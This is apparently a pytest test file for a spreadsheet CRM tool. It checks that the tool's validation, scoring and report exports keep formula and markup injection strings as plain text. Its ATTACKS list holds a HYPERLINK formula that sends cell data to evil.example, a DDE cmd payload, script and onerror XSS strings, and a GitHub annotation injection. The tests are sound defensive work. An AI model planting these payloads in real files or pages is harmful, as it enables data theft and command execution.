"""Texts that would run as formulas or markup stay the texts they are, wherever they go."""

import json
import re
from datetime import date
from enum import Enum
from io import BytesIO
from xml.etree import ElementTree

import pytest
import xlsxwriter
from typer.testing import CliRunner

import xlcrm
from tests.ooxml.workbooks import by_calamine, unzipped
from xlcrm.cli import app
from xlcrm.sheets import SHEETS, fields_of

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"EVIL")',
    "=cmd|' /C EVIL'!A0",
    "+EVIL()+1",
    "-EVIL()-1",
    "@SUM(EVIL)",
    "\t=EVIL()",
    "\r\n::error::EVIL",
    "<script>EVIL()</script>",
    "<img src=x onerror=EVIL()>",
    '"><EVIL/>&EVIL;',
    "]]><EVIL/>",
    "{{account.EVIL}}",
    "'!EVIL",
    "_x003D_EVIL()",
)
ROWS = 3
OPTIONS = xlcrm.Options(as_of=date(2026, 11, 30), language="zh")
_FORMULA = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}f"
_QUOTED = re.compile(r"""'(?:[^']|'')*'|"(?:[^"]|"")*\"""")


def value_of(field, row, column):
    """An attack for every text, something ordinary elsewhere; keys and links fit together."""
    if field.name.endswith("_id"):
        return f"=EVIL{row}"
    ordinary = {float: 10, int: 1, bool: "是", date: date(2026, 11, 3)}
    if field.type in ordinary:
        return ordinary[field.type]
    if isinstance(field.type, type) and issubclass(field.type, Enum):
        return next(iter(field.type)).zh
    return ATTACKS[(row + column) % len(ATTACKS)]


def hostile_book():
    """Every sheet, every column filled, each text an attack."""
    file = BytesIO()
    literal = {"strings_to_formulas": False, "strings_to_urls": False}
    workbook = xlsxwriter.Workbook(file, {"in_memory": True, **literal})
    day = workbook.add_format({"num_format": "yyyy-mm-dd"})
    for model in SHEETS:
        sheet = workbook.add_worksheet(model.SHEET.zh)
        for column, field in enumerate(fields_of(model)):
            sheet.write(0, column, field.column.zh)
            for row in range(1, ROWS + 1):
                value = value_of(field, row, column)
                sheet.write(row, column, value, day if isinstance(value, date) else None)
    workbook.close()
    return file.getvalue()


def running(content):
    """The formulas of a workbook that name the attack anywhere but in a quoted text or name."""
    found = []
    for name, part in unzipped(content).items():
        if name.endswith(".xml"):
            texts = [element.text or "" for element in ElementTree.fromstring(part).iter(_FORMULA)]
            found += [text for text in texts if "EVIL" in _QUOTED.sub("", text)]
    return found


def outside(content):
    """Where the workbook leads outside."""
    return [
        name
        for name, part in unzipped(content).items()
        if name.endswith(".rels") and (b"EVIL" in part or b"evil.example" in part)
    ]


@pytest.fixture
def path(tmp_path):
    path = tmp_path / "客户.xlsx"
    path.write_bytes(hostile_book())
    return path


def test_validate_score_snapshot_and_plan_write_attacks_as_the_texts_they_are(path):
    typed = {model.SHEET.zh: by_calamine(path.read_bytes(), model.SHEET.zh) for model in SHEETS}
    assert (
        sum(str(value).count("EVIL") for cells in typed.values() for value in cells.values()) > 300
    )

    xlcrm.validate(path, OPTIONS)
    xlcrm.score(path, OPTIONS)
    xlcrm.snapshot(path, OPTIONS)
    xlcrm.plan(path, OPTIONS, top=2)

    after = path.read_bytes()
    assert running(after) == []
    assert outside(after) == []
    for sheet, cells in typed.items():
        now = by_calamine(after, sheet)
        assert {cell: now.get(cell) for cell in cells} == cells


def test_validate_with_corrections_makes_no_formula_either(path):
    xlcrm.validate(path, OPTIONS, fix=True)

    assert running(path.read_bytes()) == []


@pytest.mark.parametrize("form", ["html", "json", "github", "xlsx", "text"])
def test_reports_carry_attacks_as_texts(form, path, tmp_path):
    out = tmp_path / f"report.{form}"
    words = ["validate", str(path), "--as-of", "2026-11-30", "--format", form]
    done = CliRunner().invoke(app, [*words, *(["--output", str(out)] * (form in ("html", "xlsx")))])

    assert done.exit_code == 1, done.output
    said = done.stdout + (out.read_text(encoding="utf-8") if form == "html" else "")
    if form == "xlsx":
        assert running(out.read_bytes()) == outside(out.read_bytes()) == []
        return
    assert "EVIL" in said
    if form == "json":
        json.loads(done.stdout)
    if form == "html":
        assert re.findall(r"<(?:script>EVIL|img src=x|EVIL)", said) == []
    if form == "github":
        assert [line for line in said.splitlines() if line.startswith("::error::EVIL")] == []
